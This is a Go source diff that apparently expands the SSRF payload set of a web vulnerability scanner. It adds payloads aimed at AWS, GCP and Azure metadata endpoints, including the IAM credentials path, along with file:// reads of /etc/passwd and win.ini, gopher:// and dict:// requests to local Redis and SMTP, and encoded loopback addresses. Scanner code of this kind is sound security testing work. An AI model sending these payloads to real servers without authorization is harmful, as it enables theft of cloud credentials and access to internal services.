@@ -1,23 +1,69 @@
 package payloads
 
-// SSRFPayloads contains a list of payloads to attempt for Server-Side Request Forgery (SSRF).
-// This includes common external targets and various internal/metadata service targets.
-var SSRFPayloads = []string{
-	"http://example.com",
-	"https://example.com",
-	"http://www.google.com", // Another well-known external target.
-	"http://127.0.0.1",      // Loopback address.
-	"http://localhost",      // Loopback hostname.
-	"http://localhost/admin", // Common admin interface path
-	"http://127.0.0.1/admin",  // Common admin interface path
-	"http://127.0.0.1:22",   // Attempting a commonly closed or different port (SSH).
-	"http://127.0.0.1:80",   // If the target application runs on a different port.
-	"http://127.0.0.1:7",    // Echo port, might time out or result in connection refused.
-	"http://169.254.169.254", // AWS EC2 Metadata Service (requires specific headers for full access).
-	"http://metadata.google.internal/computeMetadata/v1/", // GCP Metadata Service (requires Metadata-Flavor: Google header).
-	"http://instance-data/latest/meta-data/",              // Azure Metadata Service.
-	"file:///c:/boot.ini",                                 // Windows system file path.
-	"file:///etc/passwd",                                  // Linux system file path.
+// SSRF payload classes, recorded in findings to show which kind of target the server fetched.
+const (
+	SSRFClassExternal     = "external"           // Well-known public pages.
+	SSRFClassLoopback     = "internal-loopback"  // Loopback addresses, ports and alternate encodings.
+	SSRFClassMetadata     = "cloud-metadata"     // Cloud instance metadata services.
+	SSRFClassProtocol     = "protocol-smuggling" // Non-HTTP schemes (file://, gopher://, dict://).
+	SSRFClassOOBCallback  = "oob-callback"       // The scanner's own out-of-band collaborator.
+	SSRFClassInternalHost = "internal-host"      // Common internal host names.
+)
+
+// SSRFTest is a single SSRF payload. Signatures are response fragments that prove the server
+// fetched the target (e.g., cloud metadata JSON keys); they are checked in addition to
+// SSRFResponseKeywords.
+type SSRFTest struct {
+	Payload     string
+	Class       string
+	Description string
+	Signatures  []string
+	Headers     map[string]string // Extra request headers some metadata services require.
+}
+
+// ssrfMetadataSignatures are keys returned by AWS, GCP and Azure instance metadata services.
+var ssrfMetadataSignatures = []string{
+	"ami-id", "instance-id", "instance-type", "security-credentials", "AccessKeyId", "SecretAccessKey",
+	"\"accountId\"", "\"imageId\"", "computeMetadata", "service-accounts", "\"azEnvironment\"", "\"vmId\"",
+}
+
+// SSRFTests contains the payloads attempted for Server-Side Request Forgery (SSRF), grouped by class.
+var SSRFTests = []SSRFTest{
+	// --- External Targets ---
+	{Payload: "http://example.com", Class: SSRFClassExternal, Description: "Public page (HTTP)"},
+	{Payload: "https://example.com", Class: SSRFClassExternal, Description: "Public page (HTTPS)"},
+	{Payload: "http://www.google.com", Class: SSRFClassExternal, Description: "Public page (Google)", Signatures: []string{"<title>Google</title>"}},
+
+	// --- Cloud Metadata ---
+	{Payload: "http://169.254.169.254/latest/meta-data/", Class: SSRFClassMetadata, Description: "AWS EC2 metadata", Signatures: ssrfMetadataSignatures},
+	{Payload: "http://169.254.169.254/latest/meta-data/iam/security-credentials/", Class: SSRFClassMetadata, Description: "AWS IAM role credentials", Signatures: ssrfMetadataSignatures},
+	{Payload: "http://169.254.169.254/latest/dynamic/instance-identity/document", Class: SSRFClassMetadata, Description: "AWS instance identity document", Signatures: ssrfMetadataSignatures},
+	{Payload: "http://metadata.google.internal/computeMetadata/v1/?recursive=true", Class: SSRFClassMetadata, Description: "GCP metadata", Signatures: ssrfMetadataSignatures, Headers: map[string]string{"Metadata-Flavor": "Google"}},
+	{Payload: "http://169.254.169.254/metadata/instance?api-version=2021-02-01", Class: SSRFClassMetadata, Description: "Azure instance metadata", Signatures: ssrfMetadataSignatures, Headers: map[string]string{"Metadata": "true"}},
+	{Payload: "http://instance-data/latest/meta-data/", Class: SSRFClassMetadata, Description: "AWS EC2 metadata (host name)", Signatures: ssrfMetadataSignatures},
+	{Payload: "http://[fd00:ec2::254]/latest/meta-data/", Class: SSRFClassMetadata, Description: "AWS EC2 metadata (IPv6)", Signatures: ssrfMetadataSignatures},
+
+	// --- Loopback & Internal Ports ---
+	{Payload: "http://127.0.0.1", Class: SSRFClassLoopback, Description: "Loopback address"},
+	{Payload: "http://localhost", Class: SSRFClassLoopback, Description: "Loopback hostname"},
+	{Payload: "http://localhost/admin", Class: SSRFClassLoopback, Description: "Local admin interface"},
+	{Payload: "http://127.0.0.1/admin", Class: SSRFClassLoopback, Description: "Local admin interface"},
+	{Payload: "http://127.0.0.1:22", Class: SSRFClassLoopback, Description: "Local SSH port", Signatures: []string{"SSH-2.0-", "OpenSSH"}},
+	{Payload: "http://127.0.0.1:80", Class: SSRFClassLoopback, Description: "Local HTTP port"},
+	{Payload: "http://127.0.0.1:8080", Class: SSRFClassLoopback, Description: "Local alternate HTTP port"},
+	{Payload: "http://127.0.0.1:6379", Class: SSRFClassLoopback, Description: "Local Redis port", Signatures: []string{"-ERR wrong number of arguments", "-ERR unknown command"}},
+	{Payload: "http://[::1]", Class: SSRFClassLoopback, Description: "IPv6 loopback"},
+	{Payload: "http://2130706433", Class: SSRFClassLoopback, Description: "Loopback as a decimal integer"},
+	{Payload: "http://0x7f000001", Class: SSRFClassLoopback, Description: "Loopback as a hexadecimal integer"},
+	{Payload: "http://internal", Class: SSRFClassInternalHost, Description: "Common internal host name"},
+
+	// --- Protocol Smuggling ---
+	{Payload: "file:///etc/passwd", Class: SSRFClassProtocol, Description: "file:// read of /etc/passwd", Signatures: []string{"root:x:0:0:"}},
+	{Payload: "file:///c:/boot.ini", Class: SSRFClassProtocol, Description: "file:// read of boot.ini", Signatures: []string{"[boot loader]"}},
+	{Payload: "file:///c:/windows/win.ini", Class: SSRFClassProtocol, Description: "file:// read of win.ini", Signatures: []string{"for 16-bit app support", "[fonts]"}},
+	{Payload: "gopher://127.0.0.1:6379/_INFO%0d%0a", Class: SSRFClassProtocol, Description: "gopher:// request to local Redis", Signatures: []string{"redis_version:"}},
+	{Payload: "dict://127.0.0.1:6379/INFO", Class: SSRFClassProtocol, Description: "dict:// request to local Redis", Signatures: []string{"redis_version:"}},
+	{Payload: "gopher://127.0.0.1:25/_HELO%20localhost%0d%0a", Class: SSRFClassProtocol, Description: "gopher:// request to local SMTP", Signatures: []string{"220 ", "ESMTP"}},
 }
 
 // SSRFResponseKeywords contains keywords or patterns to look for in responses
@@ -27,8 +73,6 @@ var SSRFResponseKeywords = []string{
 	// Content from example.com
 	"Example Domain",
 	"illustrative examples in documents",
-	// Content from google.com (might need adjustment as Google often changes).
-	"<title>Google</title>",
 	// Common error messages indicating an attempt to connect to internal/invalid hosts.
 	"Connection refused",
 	"could not connect to server",